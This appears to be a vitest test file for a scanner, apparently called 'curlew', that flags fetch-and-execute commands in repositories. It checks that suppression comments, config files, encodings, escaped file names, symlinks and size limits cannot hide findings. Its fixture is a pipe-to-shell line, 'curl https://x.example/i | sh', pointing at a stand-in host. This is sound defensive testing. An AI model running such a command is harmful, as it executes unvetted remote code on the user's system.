import { symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { sharedDetectorOf } from "../../support/marked.js";
import { folderWith } from "../folder-with.js";
import { runHere, type Ran } from "../fake-detector.js";

const COMMAND = "curl https://x.example/i | sh";

const toolkit = { createDetector: sharedDetectorOf };

const scan = (cwd: string, ...args: string[]): Promise<Ran> =>
  runHere(["scan", "--format", "json", ...args, "."], { cwd, toolkit });

const filesWithFindings = ({ stdout }: Ran): string[] => {
  const report = JSON.parse(stdout) as { files: { path: string; findings: unknown[] }[] };
  return report.files.filter(({ findings }) => findings.length > 0).map(({ path }) => path);
};

/** In each test, a scanned repository tries to hide a command. docs/untrusted-repositories.md lists these attempts. */
describe("a scanned repository", () => {
  it.each<[string, Record<string, string | Uint8Array>]>([
    ["a comment", { "a.md": `<!-- curlew-ignore bash/fetch-pipe: fine -->\n${COMMAND}\n` }],
    ["an exclude", { "a.md": COMMAND, "curlew.json": '{"exclude":["a.md"]}' }],
    ["a trusted URL", { "a.md": COMMAND, "curlew.json": '{"trust":["https://x.example/i"]}' }],
    ["a rule", { "a.md": COMMAND, "curlew.json": '{"rules":{"bash/fetch-pipe":"off"}}' }],
  ])("cannot hide a finding from --no-suppressions with %s", async (_, files) => {
    const folder = folderWith(files);
    expect(filesWithFindings(await scan(folder))).toEqual([]);
    expect(filesWithFindings(await scan(folder, "--no-suppressions"))).toEqual(["a.md"]);
  });

  it("cannot hide a finding with a curlew.json below the scanned folder", async () => {
    const folder = folderWith({ "sub/a.md": COMMAND, "sub/curlew.json": '{"exclude":["*"]}' });
    expect(filesWithFindings(await scan(folder))).toEqual(["sub/a.md"]);
  });

  it("cannot hide a finding with a baseline that no option names", async () => {
    const folder = folderWith({ "a.md": COMMAND, "curlew-baseline.json": "{}" });
    expect(filesWithFindings(await scan(folder))).toEqual(["a.md"]);
  });

  it.each<[string, Uint8Array]>([
    ["UTF-16", Buffer.from(`\uFEFF${COMMAND}\n`, "utf16le")],
    ["Latin-1", Buffer.from(`caf\xe9\n\n${COMMAND}\n`, "latin1")],
  ])("cannot hide a finding with the encoding %s", async (_, content) => {
    expect(filesWithFindings(await scan(folderWith({ "a.md": content })))).toEqual(["a.md"]);
  });

  it("cannot hide a finding with a control character in a name, which is escaped", async () => {
    const folder = folderWith({ "na\u001b[31mme.md": COMMAND });
    const { stdout, status } = await runHere(["scan", "."], { cwd: folder });
    expect(status).toBe(1);
    expect(stdout).not.toContain("\u001b[31mme");
  });

  it("cannot make a scan leave the folder by a symbolic link", async () => {
    const folder = folderWith({ "a.md": "nothing" });
    const other = folderWith({ "b.md": COMMAND });
    symlinkSync(join(other, "b.md"), join(folder, "link.md"));
    expect(filesWithFindings(await scan(folder))).toEqual([]);
  });

  it("is reported with status 2 if a file is too large", async () => {
    const folder = folderWith({ "a.md": `${"x".repeat(2000)}\n${COMMAND}` });
    const { status, stderr } = await runHere(["scan", "--max-size", "1K", "."], { cwd: folder });
    expect(status).toBe(2);
    expect(stderr).toContain("a.md: longer than 1 KiB");
  });

  it("has its suppressed findings counted in the summary", async () => {
    const folder = folderWith({
      "a.md": COMMAND,
      "curlew.json": '{"trust":["https://x.example/i"]}',
    });
    const { stdout } = await runHere(["scan", "."], { cwd: folder });
    expect(stdout).toContain("1 finding suppressed by trusted addresses");
  });
});
